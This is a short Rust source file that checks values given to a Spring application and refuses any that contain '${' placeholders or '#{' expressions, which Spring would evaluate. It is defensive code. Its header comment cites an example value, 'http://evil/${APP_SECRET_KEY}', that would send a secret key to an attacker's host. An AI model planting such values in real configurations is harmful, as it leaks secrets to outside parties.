//! Values that Spring would evaluate.
//!
//! `${…}` in a property stands for another one, so a provider that writes `http://evil/${APP_SECRET_KEY}` is sent the key; and
//! `#{…}` in one that the application takes up by `@Value` is an expression that runs code. Neither can be escaped in a way that
//! every version of Spring reads. So a value that has one is refused, and nothing else of its relation is used either.

use interfaces::Read;

use super::Provided;

/// What a relation gives, if Spring takes all of it as it stands.
pub(super) fn inert(provided: Provided) -> Read<Provided> {
    let variables = provided.variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
    let url = provided.url.iter().map(|url| ("url", url.as_str()));
    let proxies = provided.proxies.iter().flat_map(|proxies| [&proxies.http, &proxies.https]);
    let proxies = proxies.map(|proxy| ("proxy", proxy.expose()));
    let found = variables.chain(url).chain(proxies).find(|(_, value)| evaluates(value));
    match found.map(|(name, _)| name.to_owned()) {
        Some(key) => {
            Read::Invalid { key, why: "it has ${ or #{, which Spring evaluates: give it another value".to_owned() }
        }
        None => Read::Ready(provided),
    }
}

/// Whether Spring makes something else of this text.
pub(super) fn evaluates(text: &str) -> bool {
    text.contains("${") || text.contains("#{")
}
